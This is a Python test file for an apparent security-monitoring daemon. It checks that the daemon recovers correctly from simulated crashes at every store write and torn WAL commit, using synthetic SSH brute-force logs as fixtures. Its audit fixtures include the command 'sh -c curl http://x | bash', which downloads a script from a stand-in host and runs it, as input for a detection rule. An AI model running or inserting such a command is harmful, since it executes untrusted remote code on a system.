"""A crash at every point that the disk can tell apart: before each statement, around each delivery, inside each commit.

One run of pipeline, enricher and dispatcher is watched: wherever its files differ from the last look, they are copied,
with what receivers had accepted until then. That is what a SIGKILL there would have left, since what was handed to the
kernel survives it. A commit that was cut off in the middle of its writes is made of a copy whose WAL ends early. From
every copy a new process goes on, and in the end all of them must have told the same.
"""

import asyncio
import hashlib
import itertools
import shutil
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from daemon.assembly import build_flow
from daemon.config import Alerts, Config, Model, Webhook
from daemon.delivery import Sink
from daemon.delivery.dispatcher import Dispatcher
from daemon.delivery.formats.standard import render
from daemon.delivery.signature import message_id
from daemon.detection.rules import parse_rules
from daemon.enrichment.enricher import Enricher
from daemon.enrichment.redact import Redactor
from daemon.events.readers import build_reader
from daemon.model import Checkpoint, Delivery, Lines, Position, Transient
from daemon.pipeline import Pipeline
from daemon.runtime import load_stored
from daemon.state.store import SqliteStore
from daemon.telemetry import Board, Metrics
from tests.doubles.alert_bodies import told_apart
from tests.doubles.attack_stream import RULES
from tests.doubles.audit_lines import execve
from tests.doubles.clock import ManualTime
from tests.doubles.enriching import PAST
from tests.doubles.explainer import ScriptedExplainer, ScriptedMemory
from tests.doubles.running import running

AT = 1_795_252_500.0
SSHD = "Nov 21 09:15:{:02} web-1 sshd[7]: {} password for {} from {} port {} ssh2\n"
FAILED = [("Failed", "deploy", "198.51.100.1")] * 6 + [("Failed", "deploy", "192.0.2.1")] * 5
LOGINS = [
    ("Accepted", "root", "203.0.113.9"),
    ("Accepted", "root", "203.0.113.9"),
    ("Accepted", "deploy", "198.51.100.1"),
]
LOGS = {
    "auth": "".join(
        SSHD.format(n, said, who, ip, 40000 + n) for n, (said, who, ip) in enumerate(FAILED + LOGINS)
    ).encode(),
    "audit": "".join(
        f"{record}\n" for serial in range(2) for record in execve(50 + serial, "sh", "-c", "curl http://x | bash")
    ).encode(),
}
EXPECTED = {
    ("Guessing", "src_ip=198.51.100.1"): 1,
    ("Guessed", "src_ip=198.51.100.1"): 1,
    ("Root login", "src_ip=203.0.113.9"): 2,
    ("Piped", "CommandLine=sh -c curl http://x | bash"): 2,
}
HOOKS = (Webhook(name="ops", url="https://hooks.example/x", versions="all"),)
FRAME = 24 + 4096


@dataclass
class Left:
    """What a crash leaves: files, and what the receiver had accepted."""

    files: dict[str, bytes]
    accepted: list[tuple[str, bytes]]

    def restore(self, directory: Path) -> None:
        directory.mkdir(parents=True)
        for name, content in self.files.items():
            (directory / name).write_bytes(content)


@dataclass
class Watch:
    """Copies the store wherever it changed."""

    directory: Path
    accepted: list[tuple[str, bytes]]
    points: list[Left] = field(default_factory=list)
    _seen: set[str] = field(default_factory=set)

    def look(self) -> None:
        """Called where nothing is being written: by the writing thread, before a statement."""
        names = ("tellwhy.db", "tellwhy.db-wal")
        files = {name: (self.directory / name).read_bytes() for name in names if (self.directory / name).exists()}
        state = hashlib.blake2b(repr(len(self.accepted)).encode() + b"".join(files.values())).hexdigest()
        if state in self._seen:
            return
        self._seen.add(state)
        if self.points:
            self.points += self._torn(self.points[-1], files)
        self.points.append(Left(files, list(self.accepted)))

    def _torn(self, before: Left, files: dict[str, bytes]) -> list[Left]:
        """The commit between two looks, cut off after its first page and in the middle of its last one."""
        old, new = before.files.get("tellwhy.db-wal", b""), files.get("tellwhy.db-wal", b"")
        if before.files["tellwhy.db"] != files["tellwhy.db"] or not new.startswith(old) or len(new) < len(old) + FRAME:
            return []
        lengths = {len(old) + FRAME, len(new) - FRAME // 2} - {len(new)}
        return [Left({**files, "tellwhy.db-wal": new[:length]}, before.accepted) for length in sorted(lengths)]


class Accepting(Sink):
    """A receiver that refuses every third attempt for now; of the others, every fourth is accepted unheard by us."""

    def __init__(self, store: SqliteStore, accepted: list[tuple[str, bytes]], watch: Watch | None) -> None:
        self._store, self._accepted, self._watch = store, accepted, watch
        self._attempts = itertools.count(1)

    async def send(self, delivery: Delivery, now: float) -> None:
        attempt = next(self._attempts)
        if attempt % 3 == 0:
            raise Transient("503")
        self._accepted.append((message_id(delivery.alert), render(delivery.alert)))
        if self._watch is not None:
            watch = self._watch
            await self._store.database.write(lambda _: watch.look())
        if attempt % 4 == 0:
            raise Transient("cut")

    @property
    def name(self) -> str:
        """The webhook that it stands for."""
        return "ops"

    async def close(self) -> None:
        """Nothing is open."""


class Life:
    """One process: from what the store says to the end of the logs and the last delivery."""

    def __init__(self, directory: Path, accepted: list[tuple[str, bytes]], *, watched_with: int | None = None) -> None:
        self.store = SqliteStore(directory, ballast_bytes=0)
        self.accepted = accepted
        self.watch = Watch(directory, accepted) if watched_with is not None else None
        self._checkpoint_after = watched_with
        self._time = ManualTime(AT)
        self._ticks = itertools.count()

    async def live(self) -> None:
        self.store.open()
        if self.watch is not None:
            watch = self.watch
            self.store.database._writer._connection.execute(f"PRAGMA wal_autocheckpoint = {self._checkpoint_after}")
            self.store.database._writer._connection.set_trace_callback(lambda _: watch.look())
        try:
            async with asyncio.timeout(20):
                await self._run()
        finally:
            self.store.close()

    async def _run(self) -> None:
        stored = await load_stored(self.store, Config())
        pipeline, dispatcher, enricher = self._build(stored.checkpoints)
        pipeline._flow.restore(stored.snapshots)
        pipeline._flow.resume(stored.incidents)
        async with running(dispatcher.run()), running(enricher.run()):
            async with running(pipeline.run()) as task:
                for item in self._rest(stored.checkpoints):
                    await pipeline.emit(item)
                    while len(pipeline._channel):  # noqa: ASYNC110 - a few turns of the loop; one item after the other: each has its commit
                        await asyncio.sleep(0)
                await pipeline.close()
                await task
            while (await self.store.depth()).due or await self.store.unenriched(1):
                await self._time.advance(1)

    def _build(self, checkpoints: Sequence[Checkpoint]) -> tuple[Pipeline, Dispatcher, Enricher]:
        board, metrics, time = Board(self._time.now), Metrics(), self._time
        redactor = Redactor()
        readers = {
            name: build_reader(name, fmt, host="web-1", now=time.now, usernames=str, redact=redactor.text)
            for name, fmt in (("auth", "syslog"), ("audit", "auditd"))
        }
        flow = build_flow(Config(), PARSED, readers, redactor)
        dispatcher = Dispatcher(
            self.store, {"ops": Accepting(self.store, self.accepted, self.watch)}, webhooks=HOOKS, board=board,
            metrics=metrics, now=time.now, sleep=time.sleep, jitter=lambda: 0.5,
        )  # fmt: skip
        enricher = Enricher(
            self.store, ScriptedMemory(PAST), ScriptedExplainer(), alerts=Alerts(), model=Model(), limit=3,
            webhooks=HOOKS, board=board, metrics=metrics, now=time.now, monotonic=time.monotonic, sleep=time.sleep,
            nonce=lambda: "nonce", memory_timeout=60, revised=dispatcher.nudge,
        )  # fmt: skip

        def stored() -> None:
            dispatcher.nudge()
            enricher.nudge()

        pipeline = Pipeline(
            flow, self.store, alerts=Alerts(), webhooks=HOOKS, waits_for_memory=True, board=board, metrics=metrics,
            now=time.now, monotonic=lambda: float(next(self._ticks)), sleep=time.sleep, stored=stored,
            no_room=lambda: None,
        )  # fmt: skip
        return pipeline, dispatcher, enricher

    def _rest(self, checkpoints: Sequence[Checkpoint]) -> list[Lines]:
        """What is left of each log, two lines at a time: as the tail hands it over after a restart."""
        reached = {one.source: one.position.offset for one in checkpoints}
        items: list[list[Lines]] = []
        for source, data in LOGS.items():
            at, rows = reached.get(source, 0), []
            rest = data[at:].splitlines(keepends=True)
            for part in (b"".join(rest[first : first + 2]) for first in range(0, len(rest), 2)):
                path = f"/{source}.log"
                after = Checkpoint(source, Position(path, "1:1", at + len(part)))
                rows.append(Lines(source, part, Position(path, "1:1", at), after))
                at += len(part)
            items.append(rows)
        return [item for pair in itertools.zip_longest(*items) for item in pair if item is not None]


PARSED = parse_rules({"rules.yml": RULES})


async def told(life: Life) -> dict[str, object]:
    """What must be the same whatever happened: incidents, and the versions of their alerts without their times."""
    life.store.open()
    try:
        incidents = await life.store.incidents(limit=1000)
        counts = {(one.rule.title, one.entity): one.count for one in incidents}
        assert len(counts) == len(incidents)
        for incident in incidents:
            anomalies = await life.store.anomalies(incident.id)
            assert len(anomalies) == incident.count
            versions = await life.store.alerts(incident.id)
            assert [one.version for one in versions] == list(range(1, len(versions) + 1))
            assert len({one.id for one in versions}) == 1
            check_accepted(life, incident.id, {message_id(one) for one in versions})
        return {"counts": counts, "ids": sorted(one.id for one in incidents)}
    finally:
        life.store.close()


def check_accepted(life: Life, incident_id: str, stored: set[str]) -> None:
    """Each version of the alert was accepted, with one body however often, and nothing else of this incident was."""
    bodies: dict[str, set[bytes]] = {}
    for message, body in life.accepted:
        if incident_id.encode() in body:
            bodies.setdefault(message, set()).add(body)
    assert bodies.keys() == stored
    assert told_apart(bodies) == []


@asynccontextmanager
async def scratch(directory: Path) -> AsyncIterator[Path]:
    yield directory
    shutil.rmtree(directory)


@pytest.mark.parametrize("pages", [0, 20], ids=["all in the WAL", "checkpoints every 20 pages"])
async def test_from_every_point_a_new_process_ends_where_an_uninterrupted_one_does(tmp_path: Path, pages: int) -> None:
    first = Life(tmp_path / "first", [], watched_with=pages)
    await first.live()
    expected = await told(first)
    assert expected["counts"] == EXPECTED
    assert first.watch is not None
    points = first.watch.points
    assert len(points) >= 30
    for number, left in enumerate(points):
        async with scratch(tmp_path / str(number)) as directory:
            left.restore(directory)
            life = Life(directory, list(left.accepted))
            await life.live()
            assert await told(life) == expected, f"crash point {number} of {len(points)}"
